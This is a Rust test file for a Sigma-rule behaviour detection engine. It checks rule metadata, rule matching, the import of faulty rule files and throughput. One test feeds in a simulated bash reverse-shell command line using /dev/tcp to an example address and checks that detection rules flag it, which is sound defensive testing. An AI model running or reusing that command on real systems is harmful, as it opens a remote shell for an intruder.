use super::*;
use crate::telemetry::event::{
    Class, Common, Connection, Details, NetworkActivity, NetworkDid, Process, ProcessActivity, ProcessDid, Protocol,
    Running, Text, VERSION,
};
use proptest::prelude::*;
use std::collections::BTreeMap;

fn own() -> Rules {
    let (rules, refused) = Rules::with(None).unwrap();
    assert_eq!(refused, []);
    rules
}

fn data(path: &str) -> String {
    fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("../..").join(path)).unwrap()
}

#[test]
fn every_rule_says_whose_it_is_and_has_words() {
    let mut ids = BTreeSet::new();
    let words = ["en", "zh-CN"].map(|language| data(&format!("locales/{language}/behaviour.json")));
    for (name, text) in SIGMA {
        let rules = read(text, &mut |why| panic!("{name}: {why:?}"));
        assert_eq!(rules.len(), 1, "{name}");
        let rule = &rules[0];
        let id = rule.id.clone().unwrap();
        assert!(id.len() == 36 && ids.insert(id), "{name}");
        assert_eq!((rule.author.as_deref(), rule.license.as_deref()), (Some("Redoubt"), Some("Apache-2.0")), "{name}");
        let attack = rule.tags.iter().filter(|tag| tag.starts_with("attack.t1"));
        assert!(attack.count() > 0 && rule.level.is_some() && rule.description.is_some(), "{name}");
        assert!(words.iter().all(|words| words.contains(&format!("\"rule-{name}\""))), "{name} has no words");
    }
    assert!(SIGMA.len() >= 20);
}

#[test]
fn every_rule_fits_what_it_should_and_nothing_like_it() {
    let rules = own();
    type Cases = BTreeMap<String, BTreeMap<String, BTreeMap<String, String>>>;
    let cases: Cases = serde_json::from_str(&data("data/sigma/tests.json")).unwrap();
    assert_eq!(cases.keys().collect::<Vec<_>>(), SIGMA.iter().map(|(name, _)| name).collect::<Vec<_>>());
    for (name, text) in SIGMA {
        let rule = read(text, &mut |_| {}).remove(0);
        let fits = |case: &str| {
            let fields = cases[*name][case].iter().map(|(name, value)| (&*name.clone().leak(), value.clone()));
            let found = rules.tried(&rule.logsource, &Fields::of(fields));
            found.iter().any(|found| found.header.rule_id == rule.id)
        };
        assert!(fits("fits"), "{name} does not fit");
        assert!(!fits("other"), "{name} fits another");
    }
}

fn running(path: &str, line: &str) -> Details {
    let arguments = line.split(' ').map(str::to_owned).collect();
    Details::Known(Common::new(Running { path: Text::from(path), arguments, ..Running::default() }))
}

fn event(what: Class) -> Event {
    Event { version: VERSION, sequence: 7, time: 9, what }
}

fn codes(rules: &Rules, event: &Event) -> Vec<String> {
    let mut codes = Vec::new();
    rules.judge(event, &mut |alarm| {
        assert_eq!(alarm.events, [7]);
        codes.push(alarm.message.code);
    });
    codes.sort();
    codes
}

#[test]
fn events_have_the_fields_of_sigma() {
    let rules = own();
    let details = running("/usr/bin/bash", "bash -c exec 5<>/dev/tcp/192.0.2.1/80");
    let process = Process { pid: 5, began: 1, ancestors: Vec::new(), details };
    let launch = |activity| event(Class::ProcessActivity(ProcessActivity { activity, process: process.clone() }));
    assert_eq!(codes(&rules, &launch(ProcessDid::Launch)), ["behaviour.rule-reverse-shell"]);
    assert_eq!(codes(&rules, &launch(ProcessDid::Fork)), [""; 0], "only what is launched is a process creation");
    let (local, remote) = ("10.0.0.5:41000".parse().unwrap(), "192.0.2.1:80".parse().unwrap());
    let connection = Connection { protocol: Protocol::Tcp, local, remote, user: 0 };
    let open = NetworkActivity { activity: NetworkDid::Open, connection, process: Some(process) };
    assert_eq!(codes(&rules, &event(Class::NetworkActivity(open))), ["behaviour.rule-shell-connects"]);
}

#[test]
fn each_file_of_others_that_cannot_be_used_says_why() {
    let folder = tempfile::tempdir().unwrap();
    let put = |name: &str, text: &[u8]| fs::write(folder.path().join(name), text).unwrap();
    let rule = |id: &str, category: &str, condition: &str| {
        format!(
            "title: Of others\nid: of-others-{id}\nlogsource:\n  product: linux\n  category: {category}\ndetection:\n  a:\n    \
            Image|endswith: /odd\n  condition: {condition}\n"
        )
    };
    put("a-good.yml", rule("1", "process_creation", "a").as_bytes());
    put("b-twice.yml", rule("1", "process_creation", "a").as_bytes());
    put("c-registry.yml", rule("2", "registry_event", "a").as_bytes());
    put("d-condition.yml", rule("3", "process_creation", "a and (").as_bytes());
    put("e-missing.yml", rule("4", "process_creation", "b").as_bytes());
    put("f-bytes.yml", b"\xff\xfe");
    put("g-large.yml", &vec![b'#'; usize::try_from(FILE_BYTES_MAX).unwrap() + 1]);
    put("h-empty.yml", b"");
    put("h-reset.yml", b"action: reset\n");
    put("i-no-yaml.yml", b"a: [1, 2\nb: }");
    put("notes.txt", b"no rule");
    let (rules, refused) = Rules::with(Some(folder.path())).unwrap();
    let told: Vec<_> = refused
        .iter()
        .map(|it| format!("{} {}", it.path.file_name().unwrap().to_str().unwrap(), it.why.code))
        .collect();
    assert_eq!(rules.count(), SIGMA.len() + 1, "{told:#?}");
    for expected in [
        "b-twice.yml behaviour.twice",
        "c-registry.yml behaviour.not-heard",
        "d-condition.yml behaviour.not-read",
        "e-missing.yml behaviour.not-compiled",
        "f-bytes.yml behaviour.no-text",
        "g-large.yml behaviour.too-large",
        "h-empty.yml behaviour.not-read",
        "h-reset.yml behaviour.no-rule",
        "i-no-yaml.yml behaviour.not-read",
    ] {
        assert!(told.iter().any(|told| told == expected), "{expected} is not in {told:#?}");
    }
    let details = running("/srv/odd", "odd");
    let process = Process { pid: 5, began: 1, ancestors: Vec::new(), details };
    let launch = Class::ProcessActivity(ProcessActivity { activity: ProcessDid::Launch, process });
    assert_eq!(codes(&rules, &event(launch)), ["behaviour.imported"]);
    assert!(Rules::with(Some(Path::new("/nowhere"))).is_err());
}

#[test]
fn rules_keep_up_with_events() {
    let rules = own();
    let details = running("/usr/bin/ls", "ls -l /srv/a/path/of/usual/length --color=auto");
    let process = Process { pid: 5, began: 1, ancestors: Vec::new(), details };
    let launch = event(Class::ProcessActivity(ProcessActivity { activity: ProcessDid::Launch, process }));
    let begin = std::time::Instant::now();
    const EVENTS: u32 = 5000;
    for _ in 0..EVENTS {
        assert_eq!(codes(&rules, &launch), [""; 0]);
    }
    println!("{} rules: {:?} an event", rules.count(), begin.elapsed() / EVENTS);
}

proptest! {
    #[test]
    fn no_text_breaks_the_reader(text in "[a-z:|\\-\\[\\]{}&*!'\" \n#>%@0-9]{0,200}") {
        read(&text, &mut |_| {});
    }
}
